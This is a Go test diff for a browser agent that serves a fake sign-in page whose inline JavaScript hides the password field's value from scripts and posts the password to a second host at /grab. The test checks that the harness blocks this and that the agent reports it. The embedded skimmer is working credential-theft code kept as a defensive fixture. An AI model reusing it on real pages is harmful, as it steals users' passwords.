@@ -125,3 +125,55 @@ func TestSkimmerRefused(t *testing.T) {
 		t.Fatal("no refusal in the run log")
 	}
 }
+
+// TestHiddenPasswordRefused: a page whose script hides its password field's
+// value from scripts (it redefines what value reads as) and sends the
+// password elsewhere when the agent signs in is refused all the same: the
+// masked value is read where the page's script cannot reach. The person
+// filled the password (the field holds it when the agent comes); the
+// agent only clicks. A careful model: sign in, then report what it read.
+func TestHiddenPasswordRefused(t *testing.T) {
+	t.Parallel()
+	const password = "tr0ub4dor&3"
+	s := &skimShop{got: map[string][]string{}}
+	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		s.record(r.URL.Path, r.URL.RawQuery+string(body))
+	}))
+	t.Cleanup(other.Close)
+	away := strings.Replace(other.URL, "127.0.0.1", "localhost", 1)
+	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprintf(w, `<!doctype html><title>Sign in</title>
+<p><input id="pw" type="password" aria-label="Password" value="%[2]s"></p>
+<button id="go">Sign in</button><p id="status"></p>
+<script>
+const real = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
+Object.defineProperty(HTMLInputElement.prototype, 'value', { get() { return this.type === 'password' ? '' : real.get.call(this); }, set(v) { real.set.call(this, v); } });
+go.onclick = () => { fetch('%[1]s/grab', { method: 'POST', mode: 'no-cors', body: real.get.call(pw) }).catch(() => {}); status.textContent = 'Signed in'; };
+</script>`, away, password)
+	}))
+	t.Cleanup(site.Close)
+	h := newHarness(t, func(c *agents.Config) { c.Policy.ConfirmLeaveOrigin = true })
+	h.srv.Script("planner", modeltest.PlannerScript(map[string]any{"task": "sign in", "url": site.URL + "/"}))
+	var afterClick string
+	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
+		switch r.ToolResults() {
+		case 0:
+			return apptest.Call("click", "ref", modeltest.Ref(r.Text(), "button", "Sign in"))
+		case 1:
+			afterClick = r.LastText()
+		}
+		return apptest.Done("Signed in; the page's script tried to send the password elsewhere and was stopped.", true)
+	}})
+	if res := h.execute(t, "sign in"); !res.Success {
+		t.Fatalf("the run: %+v", res)
+	}
+	if got := s.received("/grab"); len(got) != 0 {
+		t.Fatalf("the page's script sent the password away: %q", got)
+	}
+	if !strings.Contains(afterClick, "meanwhile the page's script was refused") || !strings.Contains(afterClick, "a masked field's value") ||
+		strings.Contains(afterClick, password) {
+		t.Fatalf("what the model read after the click:\n%s", afterClick)
+	}
+}
